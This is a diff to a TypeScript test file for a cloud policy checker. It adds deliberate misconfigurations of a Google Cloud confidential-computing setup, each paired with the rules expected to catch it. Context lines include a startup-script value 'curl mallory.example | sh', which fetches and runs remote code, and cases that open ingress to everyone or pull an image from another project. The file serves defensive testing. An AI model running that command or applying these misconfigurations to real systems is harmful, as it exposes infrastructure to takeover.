@@ -220,6 +220,8 @@ const VM_LINES: readonly Bypass[] = [
   { notes: '8 VM', name: 'a SCSI disk', apply: set(TEMPLATE, 'tee', 'disks.0.interface', 'SCSI'), rules: ['tee-instance-supported', 'tee-disk-encrypted'] },
   { notes: '8 VM', name: 'no deletion protection', apply: set(INSTANCE, 'gateway-host', 'deletionProtection', false), rules: ['tee-member-admission', 'key-deletion-guarded'] },
   { notes: '8 VM', name: 'a revoked disk key that stops nothing', apply: set(TEMPLATE, 'tee', 'keyRevocationActionType', 'NONE'), rules: ['tee-member-admission', 'tee-disk-encrypted'] },
+  { notes: '8 VM', name: 'a group that replaces no machine by itself', apply: set('gcp:compute/regionInstanceGroupManager:RegionInstanceGroupManager', 'tee', 'updatePolicy.type', 'OPPORTUNISTIC'), rules: ['tee-member-admission'] },
+  { notes: '8 VM', name: 'no scheduled replacement', apply: all(remove('gcp:cloudscheduler/job:Job', 'refresh-a'), remove('gcp:cloudscheduler/job:Job', 'refresh-b')), rules: ['tee-member-admission'] },
   { notes: '8 VM', name: 'an image of another project', apply: set(TEMPLATE, 'tee', 'disks.0.sourceImage', 'projects/mallory/global/images/confidential-space-260700'), rules: ['tee-image-pinned', 'measurement-debug-refused'] },
   { notes: '8 VM', name: 'the debug image', apply: set(TEMPLATE, 'tee', 'disks.0.sourceImage', 'projects/confidential-space-images/global/images/family/confidential-space-debug'), rules: ['measurement-debug-refused', 'tee-image-pinned'] },
   { notes: '8 VM', name: 'metadata outside the allow-list', apply: metadata('startup-script', 'curl mallory.example | sh'), rules: ['tee-metadata-protected', 'tee-no-interactive-access'] },
@@ -232,6 +234,7 @@ const VM_LINES: readonly Bypass[] = [
 
 const KEY_LINES: readonly Bypass[] = [
   { notes: '8 key', name: 'a software key', apply: set(KEY, 'phi-key', 'versionTemplate.protectionLevel', 'SOFTWARE'), rules: ['key-hardware-protected'] },
+  { notes: '8 key', name: 'imported key material', apply: set(KEY, 'phi-key', 'importOnly', true), rules: ['key-hardware-protected'] },
   { notes: '8 key', name: 'no rotation', apply: set(KEY, 'phi-key', 'rotationPeriod', null), rules: ['key-rotation'] },
   { notes: '8 key', name: 'two policies of one key', apply: add(KEY_POLICY, 'second', { cryptoKeyId: KEY_ID, policyData: '{"bindings":[]}' }), rules: GATED },
   { notes: '8 key', name: 'no authoritative policy on the key', apply: remove(KEY_POLICY, 'phi-key'), rules: GATED },
@@ -271,6 +274,8 @@ const NETWORK_LINES: readonly Bypass[] = [
   { notes: '8 network', name: 'an external address', apply: set('gcp:compute/forwardingRule:ForwardingRule', 'gateway', 'loadBalancingScheme', 'EXTERNAL'), rules: ['network-no-internet-path', 'gateway-tls-ends-in-tee'] },
   { notes: '8 network', name: 'egress that is not denied', apply: (draft) => { const rules = draft.list(FIREWALL, 'network', 'rules'); rules.splice(rules.findIndex((rule) => (rule as JsonObject)['ruleName'] === 'deny-egress-ipv4'), 1); }, rules: ['network-deny-by-default', 'network-two-walls', 'network-no-internet-path', 'network-flows-match-workload'] },
   { notes: '8 network', name: 'ingress from everywhere', apply: firewall('ingress-health', (rule) => { (rule['match'] as JsonObject)['srcIpRanges'] = ['0.0.0.0/0']; }), rules: ['network-no-open-ingress'] },
+  { notes: '8 network', name: 'a source beyond the flows, behind a closed way out', apply: firewall('ingress-in', (rule) => { ((rule['match'] as JsonObject)['srcSecureTags'] as Json[]).push({ name: '${gcp:tags/tagValue:TagValue::network-store.id}' }); }), rules: ['network-two-walls', 'network-flows-match-workload'] },
+  { notes: '8 network', name: 'a way out beyond the flows, before a closed way in', apply: firewall('ingress-out', (rule) => { (rule['match'] as JsonObject)['destIpRanges'] = ['10.20.0.0/16']; }), rules: ['network-two-walls', 'network-flows-match-workload'] },
   { notes: '8 network', name: 'a policy after the legacy rules', apply: set(NETWORK, 'network', 'networkFirewallPolicyEnforcementOrder', null), rules: ['network-deny-by-default', 'network-two-walls'] },
   { notes: '8 network', name: 'a policy that is attached to nothing', apply: remove('gcp:compute/networkFirewallPolicyAssociation:NetworkFirewallPolicyAssociation', 'network'), rules: ['network-deny-by-default', 'network-two-walls'] },
   { notes: '8 network', name: 'TLS 1.2', apply: all(
